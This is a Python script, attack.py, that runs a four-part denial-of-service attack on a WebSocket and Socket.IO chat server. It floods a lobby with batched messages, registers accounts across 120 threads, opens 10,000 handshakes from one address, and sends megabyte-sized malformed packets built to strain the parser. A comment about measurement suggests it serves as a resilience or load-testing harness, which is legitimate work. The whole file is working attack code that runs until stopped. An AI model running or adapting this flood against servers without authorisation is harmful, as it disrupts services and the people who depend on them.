"""A program that attacks a server in four ways at once: `python attack.py HOST PORT TOKEN`. It runs until it is ended.

- 25 sockets of one account send small messages into the lobby without end, many in one write.
- 120 threads register new accounts.
- 10,000 Socket.IO connections are opened from one address, and more after that.
- 100 Socket.IO sockets without a token send packets of a megabyte: with many keys, or nested deeply, or with an
  attachment that never comes.

It is one process, so it never takes more than one core.
"""

from __future__ import annotations

import contextlib
import http.client
import json
import os
import selectors
import socket
import sys
import threading
import time
from collections.abc import Callable
from itertools import count

SOCKETS, REGISTERING, HANDSHAKES, PACKETS = 25, 120, 10_000, 100
FRAMES = 500  # messages in one write
LOBBY = 2147483647
_KEYS = ",".join(['{"":0}'] * 140_000)
BAD_PACKETS = (f'451-["a",{_KEYS}]', f'42["m",{_KEYS}]', '42["m",' + "[" * 60 + "0" + "]" * 60 + "]")


def frame(text: str) -> bytes:
    """Build a masked text frame. The mask is zero, so the payload is sent as it is."""
    payload = text.encode()
    size = len(payload)
    if size < 126:
        head = bytes((0x81, 0x80 | size))
    elif size < 65_536:
        head = bytes((0x81, 0xFE)) + size.to_bytes(2, "big")
    else:
        head = bytes((0x81, 0xFF)) + size.to_bytes(8, "big")
    return head + bytes(4) + payload


def connect(host: str, port: int, path: str = "/v1/socket") -> socket.socket:
    """Open a WebSocket and return its socket after the 101."""
    opened = socket.create_connection((host, port), timeout=30)
    opened.sendall(
        f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n".encode()
    )
    head = b""
    while b"\r\n\r\n" not in head:
        received = opened.recv(1)
        if not received:
            raise ConnectionError("refused")
        head += received
    if b" 101 " not in head:
        raise ConnectionError(head)
    return opened


def hello(opened: socket.socket, token: str) -> None:
    opened.sendall(frame(json.dumps({"id": 1, "hello": {"token": token}})))


def flood(host: str, port: int, token: str) -> None:
    """Send messages on all sockets, as fast as the server reads them. What it sends is thrown away."""
    ids = count(2)
    left: dict[socket.socket, bytes] = {}
    with selectors.DefaultSelector() as selector:
        for _ in range(SOCKETS):
            opened = connect(host, port)
            hello(opened, token)
            opened.setblocking(False)
            selector.register(opened, selectors.EVENT_READ | selectors.EVENT_WRITE)
            left[opened] = b""
        while True:
            for key, events in selector.select():
                opened = key.fileobj  # type: ignore[assignment]
                with contextlib.suppress(BlockingIOError):
                    if events & selectors.EVENT_READ:
                        opened.recv(1 << 20)
                    if events & selectors.EVENT_WRITE:
                        if not left[opened]:
                            left[opened] = b"".join(_send(next(ids)) for _ in range(FRAMES))
                        left[opened] = left[opened][opened.send(left[opened]) :]


def _send(id: int) -> bytes:
    return frame(f'{{"id":{id},"send":{{"room_id":{LOBBY},"text":"x"}}}}')


_names = count()


def register(host: str, port: int) -> None:
    connection = http.client.HTTPConnection(host, port, timeout=60)
    body = json.dumps({"username": f"new{next(_names)}", "password": "correct horse battery"})
    connection.request("POST", "/v1/register", body, {"Content-Type": "application/json"})
    connection.getresponse().read()
    connection.close()


def handshakes(host: str, port: int) -> None:
    """Open Socket.IO connections, 100 in one write."""
    request = f"GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: {host}\r\n\r\n".encode() * 100
    for _ in range(HANDSHAKES // 100):
        with socket.create_connection((host, port), timeout=30) as opened:
            opened.sendall(request)
            opened.shutdown(socket.SHUT_WR)
            while opened.recv(1 << 20):
                pass
    time.sleep(1)


def bad_packets(host: str, port: int) -> None:
    """Send each bad packet once, with the packet that connects to the namespace before it."""
    for packet in BAD_PACKETS:
        opened = connect(host, port, "/socket.io/?EIO=4&transport=websocket")
        opened.sendall(frame(packet))
        opened.settimeout(1)
        with contextlib.suppress(TimeoutError):
            while opened.recv(1 << 16):
                pass
        opened.close()


def _without_end(attack: Callable[..., None], *arguments: str | int) -> None:
    while True:
        with contextlib.suppress(OSError, http.client.HTTPException):
            attack(*arguments)


def main(host: str, port: int, token: str) -> None:
    attacks: list[Callable[[], None]] = [
        lambda: _without_end(flood, host, port, token),
        lambda: _without_end(handshakes, host, port),
        *[lambda: _without_end(register, host, port)] * REGISTERING,
        *[lambda: _without_end(bad_packets, host, port)] * PACKETS,
    ]
    for attack in attacks:
        threading.Thread(target=attack, daemon=True).start()
    print("attacking", flush=True)
    threading.Event().wait()


if __name__ == "__main__":
    os.nice(5)  # those who measure need a core as well
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3])
